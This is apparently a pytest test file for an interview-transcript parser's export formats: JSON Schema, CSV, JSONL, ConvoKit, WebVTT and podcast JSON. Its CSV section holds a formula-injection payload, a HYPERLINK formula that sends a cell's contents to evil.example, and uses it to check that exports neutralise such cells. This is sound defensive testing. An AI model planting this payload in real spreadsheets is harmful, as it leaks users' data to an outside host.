"""Exports: the JSON Schema holds for real outputs; rows, ConvoKit, WebVTT and podcast JSON follow their formats;
CSV cells never start a formula; the format table drives the command line and the docs."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from interview_parser import Interview, Speaker, Turn, parse, parse_file
from interview_parser.cli import build_arg_parser, main
from interview_parser.export import (
    FORMATS,
    FORMULA_TRIGGERS,
    SCRIPTS,
    TURN_COLUMNS,
    ExportContext,
    ExportFormat,
    Written,
    convert_script,
    document_id,
    escape_formula,
    format_table,
    has_timestamps,
    json_schema,
    summary,
    timestamp_seconds,
    to_convokit,
    to_csv,
    to_jsonl,
    to_podcast_transcript,
    to_webvtt,
    turn_rows,
)

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = sorted((ROOT / "examples").glob("*.md"))
FIXTURES = Path(__file__).resolve().parent / "fixtures"

HEARING = """\
# Hearing on river water

CHAIRMAN REED: The committee will come to order.

MS. PARK: Thank you, Mr. Chairman.

CHAIRMAN REED: Please summarise your findings.

MS. PARK: The **levels** have fallen for three years.
"""

TIMED = """\
# Morning show

[00:00:02] Host: Good morning.

[00:00:05] Dana: Morning! Glad to be here & ready <really>.

[00:01:10] Host: Tell us about the garden.

[00:01:15.5] Dana: It started with one tomato plant.
Then a second one.
"""

BROKEN_FRONT_MATTER = "---\ntitle: never closed\n\n**Q:** One?\n\n**A:** Two.\n\n**Q:** Three?\n\n**A:** Four.\n"


def _documents() -> list[Interview]:
    docs = [parse_file(path) for path in EXAMPLES]
    docs += [parse(HEARING), parse(TIMED), parse(BROKEN_FRONT_MATTER), parse(""), parse("just one paragraph")]
    docs += [parse_file(path) for path in sorted(FIXTURES.glob("**/*.md"))[:40]]
    return docs


# --- JSON Schema ---------------------------------------------------------------------


def test_schema_is_a_valid_draft_2020_12_schema() -> None:
    jsonschema = pytest.importorskip("jsonschema")
    schema = json_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    assert set(schema["required"]) == set(parse("").to_dict())


@pytest.mark.parametrize("doc", _documents(), ids=lambda d: (d.title or "untitled")[:30])
def test_real_outputs_validate_against_the_schema(doc: Interview) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    validator = jsonschema.Draft202012Validator(json_schema(), format_checker=jsonschema.FormatChecker())
    data = json.loads(doc.to_json())
    errors = sorted(validator.iter_errors(data), key=lambda e: list(e.path))
    assert not errors, [f"{list(e.path)}: {e.message}" for e in errors]


def test_schema_rejects_what_to_dict_never_writes() -> None:
    jsonschema = pytest.importorskip("jsonschema")
    validator = jsonschema.Draft202012Validator(json_schema())
    data = parse(HEARING).to_dict()
    data["turns"][0]["lines"] = [3]  # one error
    data["speakers"][0].pop("key")  # another
    data["surprise"] = True
    assert len(list(validator.iter_errors(data))) == 3


def test_schema_is_shipped_in_the_package() -> None:
    import interview_parser

    assert (Path(interview_parser.__file__).parent / "interview.schema.json").is_file()


# --- rows ------------------------------------------------------------------------------


def test_turn_rows_have_every_column_in_order() -> None:
    doc = parse(HEARING)
    rows = turn_rows(doc, document_id="hearing", source="hearings/river.md")
    assert [list(row) for row in rows] == [list(TURN_COLUMNS)] * len(doc.turns)
    first = rows[0]
    assert first["document_id"] == "hearing"
    assert first["source"] == "hearings/river.md"
    assert (first["turn"], first["speaker"], first["key"]) == (0, "CHAIRMAN REED", doc.turns[0].key)
    assert (first["first_line"], first["last_line"]) == doc.turns[0].lines
    assert rows[3]["text"] == "The levels have fallen for three years."


def test_jsonl_has_one_object_per_turn() -> None:
    doc = parse(TIMED)
    lines = to_jsonl(doc, document_id="show", source="show.md").splitlines()
    assert len(lines) == len(doc.turns) == 4
    objects = [json.loads(line) for line in lines]
    assert [o["turn"] for o in objects] == [0, 1, 2, 3]
    assert (objects[1]["time"], objects[1]["start_seconds"]) == ("00:00:05", 5.0)
    assert objects[3]["text"] == doc.turns[3].text


def test_csv_quotes_commas_newlines_and_quotes() -> None:
    doc = parse('**Q:** Is it "a, b"?\n\n**A:** Yes.\n\nSecond paragraph.\n\n**Q:** Sure?\n\n**A:** Sure.')
    text = to_csv(doc, document_id="d")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["text"] for r in rows] == [t.text for t in doc.turns]
    assert "\n\n" in rows[1]["text"]
    assert to_csv(doc, header=False).count("document_id") == 0


def test_pandas_reads_jsonl_and_csv_as_is(tmp_path: Path) -> None:
    pd = pytest.importorskip("pandas")
    doc = parse_file(EXAMPLES[0])
    (tmp_path / "t.jsonl").write_text(to_jsonl(doc, document_id="a", source="a.md"), encoding="utf-8")
    (tmp_path / "t.csv").write_text(to_csv(doc, document_id="a", source="a.md"), encoding="utf-8")
    from_jsonl = pd.read_json(tmp_path / "t.jsonl", lines=True)
    from_csv = pd.read_csv(tmp_path / "t.csv")
    for frame in (from_jsonl, from_csv):
        assert list(frame.columns) == list(TURN_COLUMNS)
        assert len(frame) == len(doc.turns)
        assert list(frame["text"]) == [t.text for t in doc.turns]
        assert list(frame["turn"]) == list(range(len(doc.turns)))
        assert frame["first_line"].dtype.kind == "i"


# --- CSV formula injection (issue 16) -------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _evil_folder(tmp_path: Path) -> Path:
    (tmp_path / "=2+3.md").write_text(
        f"## {EVIL}\n\n**Ana:** {EVIL}\n\n**Bo:** -5 degrees, @team\n\n**Ana:** +1\n\n**Bo:** Fine.\n",
        encoding="utf-8",
    )
    return tmp_path


def test_csv_neutralises_formulas_in_turns_headings_and_file_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(_evil_folder(tmp_path))
    out = io.StringIO()
    assert main(["=2+3.md", "-f", "csv"], stdout=out, stderr=io.StringIO()) == 0
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["source"] == "'=2+3.md"
    assert rows[0]["section"] == "'" + EVIL
    assert [r["text"] for r in rows] == ["'" + EVIL, "'-5 degrees, @team", "'+1", "Fine."]
    for row in rows:
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row.values())
    raw = io.StringIO()
    assert main(["=2+3.md", "-f", "csv", "--raw-csv"], stdout=raw, stderr=io.StringIO()) == 0
    rows = list(csv.DictReader(io.StringIO(raw.getvalue())))
    assert (rows[0]["source"], rows[0]["section"], rows[0]["text"]) == ("=2+3.md", EVIL, EVIL)


def test_csv_neutralises_tab_and_carriage_return_and_leaves_numbers() -> None:
    doc = Interview(
        speakers=[Speaker("@ana", "@ana")],
        turns=[Turn("@ana", "\tindented", (1, 1), key="@ana"), Turn("@ana", "\r=1+1", (2, 2), key="@ana")],
    )
    rows = list(csv.reader(io.StringIO(to_csv(doc, document_id="-d"), newline="")))
    assert rows[1][:5] == ["'-d", "", "0", "'@ana", "'@ana"]
    assert [r[7] for r in rows[1:]] == ["'\tindented", "'\r=1+1"]
    assert [r[2] for r in rows[1:]] == ["0", "1"]  # numbers are numbers
    raw = list(csv.reader(io.StringIO(to_csv(doc, document_id="-d", escape_formulas=False), newline="")))
    assert [r[7] for r in raw[1:]] == ["\tindented", "\r=1+1"]


@given(st.text())
def test_escaped_cells_never_start_a_formula_and_lose_nothing(value: str) -> None:
    escaped = escape_formula(value)
    assert not escaped.startswith(FORMULA_TRIGGERS)
    assert escaped == value or escaped == "'" + value


# --- the table of formats ---------------------------------------------------------------------


def test_format_choices_and_help_come_from_the_table() -> None:
    parser = build_arg_parser()
    (action,) = [a for a in parser._actions if "--format" in a.option_strings]
    assert list(action.choices or ()) == list(FORMATS)
    text = "".join(parser.format_help().split())  # argparse wraps lines, at spaces and after hyphens
    for spec in FORMATS.values():
        assert "".join(f"{spec.name} = {spec.summary}".split()) in text


def test_docs_format_table_is_the_table() -> None:
    page = (ROOT / "docs" / "cli.md").read_text(encoding="utf-8")
    assert format_table() in page, "docs/cli.md: paste interview_parser.exports.format_table() as the format table"
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    listed = readme.split("Formats:", 1)[1].split(". ", 1)[0]
    assert set(re.findall(r"`(\w+)`", listed)) == set(FORMATS)


def test_the_summaries_say_where_the_output_goes() -> None:
    """--help and the docs' table are read from the summaries: they name the option a format needs."""
    for spec in FORMATS.values():
        if spec.takes_many:
            assert f"(needs {spec.target.removesuffix(' DIR')})" in spec.summary
        if not spec.joins:
            assert "several inputs need --output-dir" in spec.summary
    assert [spec.name for spec in FORMATS.values() if not spec.joins] == ["vtt", "podcast", "chat"]
    assert (FORMATS["convokit"].folder, FORMATS["convokit"].target) == (True, "--output-dir DIR")
    assert (FORMATS["qdpx"].folder, FORMATS["qdpx"].target) == (False, "-o FILE.qdpx")


def test_outputs_are_named_by_the_table(tmp_path: Path) -> None:
    timed = ROOT / "examples" / "timestamped.md"
    for spec in FORMATS.values():
        if spec.takes_many:
            continue
        out = tmp_path / spec.name
        assert main([str(timed), "-f", spec.name, "--output-dir", str(out), "-q"], stdout=io.StringIO()) == 0
        assert [p.name for p in out.iterdir()] == ["timestamped" + spec.extension]


def test_a_new_format_is_one_row(monkeypatch: pytest.MonkeyPatch) -> None:
    def shout(doc: Interview, context: ExportContext) -> Written:
        return Written("".join(f"{t.speaker}: {t.text.upper()}\n" for t in doc.turns))

    monkeypatch.setitem(FORMATS, "shout", ExportFormat("shout", ".txt", "every turn in capitals", one=shout))  # type: ignore[arg-type]
    out = io.StringIO()
    assert main([str(ROOT / "examples" / "sample.md"), "-f", "shout"], stdout=out) == 0
    assert out.getvalue().startswith("Lena: HOW DID THE CO-OP START?\n")
    assert "shout=everyturnincapitals" in "".join(build_arg_parser().format_help().split())


def test_a_format_has_exactly_one_writer() -> None:
    with pytest.raises(ValueError, match="exactly one writer"):
        ExportFormat("none", ".x", "nothing")
    with pytest.raises(ValueError, match="exactly one writer"):
        ExportFormat("both", ".x", "both", one=FORMATS["json"].one, many=FORMATS["qdpx"].many)


def test_the_old_module_is_the_new_package() -> None:
    from interview_parser import export, exports

    assert export.__all__ == exports.__all__
    for name in export.__all__:
        assert getattr(export, name) is getattr(exports, name)


# --- ConvoKit --------------------------------------------------------------------------

CONVOKIT_FILES = {"utterances.jsonl", "speakers.json", "conversations.json", "corpus.json", "index.json"}
UTTERANCE_FIELDS = {"id", "speaker", "conversation_id", "reply_to", "timestamp", "text", "meta"}


def _check_convokit_layout(directory: Path) -> dict[str, Any]:
    """Every file against ConvoKit's documented corpus layout; returns the parsed files."""
    assert {p.name for p in directory.iterdir()} >= CONVOKIT_FILES
    utterances = [json.loads(line) for line in (directory / "utterances.jsonl").read_text("utf-8").splitlines()]
    speakers = json.loads((directory / "speakers.json").read_text("utf-8"))
    conversations = json.loads((directory / "conversations.json").read_text("utf-8"))
    corpus = json.loads((directory / "corpus.json").read_text("utf-8"))
    index = json.loads((directory / "index.json").read_text("utf-8"))

    ids = [u["id"] for u in utterances]
    assert len(set(ids)) == len(ids), "utterance ids are unique across the corpus"
    by_id = {u["id"]: u for u in utterances}
    for utt in utterances:
        assert set(utt) >= UTTERANCE_FIELDS, utt
        assert isinstance(utt["id"], str)
        assert isinstance(utt["text"], str)
        assert utt["speaker"] in speakers
        assert isinstance(utt["meta"], dict)
        assert utt["timestamp"] is None or isinstance(utt["timestamp"], (int, float))
        # conversation_id is the id of the conversation's first utterance, and reply_to chains to it
        root = by_id[utt["conversation_id"]]
        assert root["reply_to"] is None
        assert root["conversation_id"] == root["id"]
        if utt["reply_to"] is not None:
            parent = by_id[utt["reply_to"]]
            assert parent["conversation_id"] == utt["conversation_id"]
            assert ids.index(parent["id"]) == ids.index(utt["id"]) - 1
    for data in (*speakers.values(), *conversations.values()):
        assert set(data) == {"meta", "vectors"}
        assert isinstance(data["meta"], dict)
    assert set(conversations) == {u["conversation_id"] for u in utterances}
    assert isinstance(corpus, dict)
    assert {"utterances-index", "speakers-index", "conversations-index", "overall-index", "version"} <= set(index)
    meta_of = {
        "utterances-index": [u["meta"] for u in utterances],
        "speakers-index": [s["meta"] for s in speakers.values()],
        "conversations-index": [c["meta"] for c in conversations.values()],
        "overall-index": [corpus],
    }
    for name, metas in meta_of.items():
        fields = {k for meta in metas for k in meta}
        assert set(index[name]) == fields, name
        for types in index[name].values():
            assert isinstance(types, list)
            assert all(t.startswith("<class '") for t in types)
    return {"utterances": utterances, "speakers": speakers, "conversations": conversations}


def test_convokit_corpus_follows_the_documented_layout(tmp_path: Path) -> None:
    docs = {"hearing": parse(HEARING), "show": parse(TIMED), "sample": parse_file(EXAMPLES[0])}
    out = to_convokit(docs, tmp_path / "corpus", sources={"sample": "examples/sample.md"})
    files = _check_convokit_layout(out)
    utterances = files["utterances"]
    assert len(utterances) == sum(len(d.turns) for d in docs.values())
    assert len(files["conversations"]) == 3
    show = [u for u in utterances if u["meta"]["document_id"] == "show"]
    assert [u["reply_to"] for u in show] == [None, *[u["id"] for u in show[:-1]]]
    assert show[1]["timestamp"] == 5.0
    assert files["conversations"][show[0]["id"]]["meta"]["title"] == "Morning show"


def test_convokit_merges_speakers_by_key_unless_asked(tmp_path: Path) -> None:
    docs = [("a", parse(TIMED)), ("b", parse(TIMED))]
    merged = _check_convokit_layout(to_convokit(docs, tmp_path / "m"))
    assert merged["speakers"]["host"]["meta"]["documents"] == ["a", "b"]
    apart = _check_convokit_layout(to_convokit(docs, tmp_path / "s", merge_speakers=False))
    assert {"a/host", "b/host"} <= set(apart["speakers"])


def test_convokit_rejects_duplicate_ids(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="unique"):
        to_convokit([("a", parse(TIMED)), ("a", parse(TIMED))], tmp_path)


# --- timed formats ------------------------------------------------------------------------


def test_timestamp_seconds() -> None:
    assert timestamp_seconds("00:01:31") == 91.0
    assert timestamp_seconds("1:02:03.250") == 3723.25
    assert timestamp_seconds("05:57") == 357.0
    with pytest.raises(ValueError, match="not a timestamp"):
        timestamp_seconds("soon")


def test_webvtt_reads_back_with_webvtt_py(tmp_path: Path) -> None:
    webvtt = pytest.importorskip("webvtt")
    doc = parse(TIMED)
    assert has_timestamps(doc)
    path = tmp_path / "show.vtt"
    path.write_text(to_webvtt(doc), encoding="utf-8")
    captions = webvtt.read(str(path))
    assert len(captions) == 4
    assert [c.voice for c in captions] == ["Host", "Dana", "Host", "Dana"]
    assert captions[0].start == "00:00:02.000"
    assert captions[0].end == "00:00:05.000"
    assert captions[3].start == "00:01:15.500"
    assert "Glad to be here & ready <really>." in html.unescape(captions[1].text)
    assert captions[3].text.splitlines() == ["It started with one tomato plant.", "Then a second one."]


def test_timed_formats_need_timestamps() -> None:
    doc = parse(HEARING)
    assert not has_timestamps(doc)
    with pytest.raises(ValueError, match="timestamp"):
        to_webvtt(doc)
    with pytest.raises(ValueError, match="timestamp"):
        to_podcast_transcript(doc)


def test_podcast_transcript_json() -> None:
    data = to_podcast_transcript(parse(TIMED))
    assert data["version"] == "1.0.0"
    segments = data["segments"]
    assert [s["speaker"] for s in segments] == ["Host", "Dana", "Host", "Dana"]
    assert [s["startTime"] for s in segments] == [2.0, 5.0, 70.0, 75.5]
    assert [s["endTime"] for s in segments[:3]] == [5.0, 70.0, 75.5]
    assert segments[3]["endTime"] > 75.5
    for segment in segments:
        assert set(segment) == {"speaker", "startTime", "endTime", "body"}
        assert isinstance(segment["body"], str)
        assert segment["body"]


# --- summary, ids and scripts -----------------------------------------------------------------


def test_summary_names_speakers_roles_counts_and_sections() -> None:
    text = summary(parse_file(EXAMPLES[0]), source="examples/sample.md")
    assert text.splitlines()[:3] == ["source: examples/sample.md", "Building a bakery co-op", "date: 2024-03-14"]
    assert "  Lena (interviewer): 4 turns" in text
    assert "  Marco (interviewee): 4 turns" in text
    assert "  ## Beginnings" in text


def test_document_id() -> None:
    assert document_id("a/b/Interview 3 (final).md") == "Interview_3_final"
    assert document_id("-") == "interview"
    assert document_id("访谈.md") == "访谈"


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("simplified", "您种茶多少年了？"),
        ("traditional", "您種茶多少年了？"),
        ("taiwan", "您種茶多少年了？"),
        ("hongkong", "您種茶多少年了？"),
    ],
)
def test_convert_script_changes_text_not_keys(script: str, expected: str) -> None:
    doc = parse_file(ROOT / "examples" / "访谈.md")
    converted = convert_script(doc, script)
    assert converted.turns[0].text == expected
    assert [t.key for t in converted.turns] == [t.key for t in doc.turns]
    assert [s.key for s in converted.speakers] == [s.key for s in doc.speakers]
    if script == "simplified":
        assert converted.title == "茶园访谈"
        assert converted.speakers[1].name == "林师傅"
    assert set(SCRIPTS) == {"simplified", "traditional", "taiwan", "hongkong"}


def test_convert_script_rejects_unknown_scripts() -> None:
    with pytest.raises(ValueError, match="unknown script"):
        convert_script(parse(""), "klingon")


def test_convert_script_keeps_emphasis() -> None:
    doc = parse("**主持人：** 這是**重點**嗎？\n\n**嘉賓：** 對。\n\n**主持人：** 好。\n\n**嘉賓：** 謝謝。")
    converted = convert_script(doc, "simplified")
    assert converted.turns[0].text == "这是重点吗？"
    assert converted.turns[0].emphasis == doc.turns[0].emphasis


def test_convokit_loads_the_corpus(tmp_path: Path) -> None:
    """With ConvoKit installed (it is not a test dependency: it is large), the corpus loads and checks out."""
    convokit = pytest.importorskip("convokit")
    docs = {"sample": parse_file(EXAMPLES[0]), "show": parse(TIMED)}
    corpus = convokit.Corpus(filename=str(to_convokit(docs, tmp_path / "corpus")))
    assert len(list(corpus.iter_utterances())) == sum(len(d.turns) for d in docs.values())
    for conversation in corpus.iter_conversations():
        assert conversation.check_integrity(verbose=False)
        assert len(conversation.get_root_to_leaf_paths()) == 1
